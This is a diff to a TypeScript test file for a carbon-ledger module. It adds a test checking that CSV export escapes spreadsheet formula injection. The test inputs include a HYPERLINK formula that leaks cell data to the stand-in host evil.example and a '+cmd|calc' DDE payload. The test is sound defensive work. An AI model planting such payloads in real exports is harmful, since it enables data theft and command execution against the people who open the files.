@@ -2,7 +2,7 @@ import * as assert from 'node:assert/strict';
 import { appendFileSync, mkdtempSync, promises as fsp, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { Ledger, type LedgerFs, totalsOf } from '../../src/core/carbon/ledger';
+import { csvField, Ledger, type LedgerFs, totalsOf } from '../../src/core/carbon/ledger';
 import type { Route, SciRecord } from '../../src/core/carbon/types';
 
 interface Spec {
@@ -171,6 +171,23 @@ describe('carbon ledger', () => {
     assert.ok(rows.every((r) => r.length === 19));
     assert.equal(rows[2][3], 'acme, "fast"\nv2');
     assert.equal(await ledger.export('csv', { until: new Date('2000-01-01T00:00:00Z') }), header + '\r\n');
+  });
+
+  it('exports CSV that a spreadsheet cannot run: text starting with = + - @ is not a formula; numbers stay numbers', async () => {
+    const hostile = [
+      rec('f1', '2026-11-05T09:00:00.000Z', { model: '=HYPERLINK("http://evil.example/?"&A1,"click")' }),
+      rec('f2', '2026-11-05T09:01:00.000Z', { model: '+cmd|calc' }),
+      rec('f3', '2026-11-05T09:02:00.000Z', { model: '-2+3' }),
+      rec('f4', '2026-11-05T09:03:00.000Z', { model: '@SUM(A1:A9)' }),
+      rec('f5', '2026-11-05T09:04:00.000Z', { model: '\t=1+1' }),
+    ];
+    const { ledger } = await ledgerWith(...hostile);
+    const rows = parseCsv(await ledger.export('csv')).slice(1);
+    assert.deepEqual(rows.map((r) => r[3]), [
+      '\'=HYPERLINK("http://evil.example/?"&A1,"click")', '\'+cmd|calc', '\'-2+3', '\'@SUM(A1:A9)', '\'\t=1+1',
+    ]);
+    assert.equal(csvField(-2.5), '-2.5', 'a negative number is a number, not a formula');
+    assert.equal(csvField('local'), 'local');
   });
 
   it('exports JSON: the records as stored, within the range', async () => {
